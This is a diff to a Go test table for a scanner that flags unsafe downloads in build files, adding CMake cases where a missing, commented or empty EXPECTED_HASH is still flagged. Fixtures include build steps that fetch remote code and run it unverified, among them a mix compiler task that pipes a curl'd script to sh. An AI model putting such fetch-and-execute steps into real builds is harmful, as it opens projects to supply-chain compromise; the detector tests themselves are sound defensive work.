@@ -123,6 +123,10 @@ var registry = []Rule{
 		{"Dockerfile", "FROM debian:12\nRUN wget -O /usr/local/bin/gosu https://x.invalid/gosu-amd64; \\\n\twget -O /usr/local/bin/gosu.asc https://x.invalid/gosu-amd64.asc; \\\n\tgpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \\\n\tchmod +x /usr/local/bin/gosu; \\\n\tgosu --version", 0, true},
 		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake\n  EXPECTED_HASH SHA256=5f1c2b7e39c0b4d8e1a5f7e0c3b9d2a6f4e8c1b0a7d3e5f9c2b4a6d8e0f1c3b5)\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 0, true},
 		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake)\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 2, false},
+		// The option named in a comment, or given no digest, fixes nothing.
+		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake) # EXPECTED_HASH to come\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 2, false},
+		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake EXPECTED_HASH SHA256=)\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 2, false},
+		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake\n  EXPECTED_HASH SHA256=${DEP_SHA256})\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 0, true},
 		// Elixir: a mix compiler step that runs what curl printed.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 4, false},
 		{"lib/m.ex", "defmodule M do\n  def fetch do\n    {_, 0} = System.cmd(\"curl\", [\"-fsSLo\", \"priv/data.json\", \"https://x.invalid/data.json\"])\n    {out, 0} = System.cmd(\"git\", [\"rev-parse\", \"HEAD\"])\n    out\n  end\nend", 0, true},
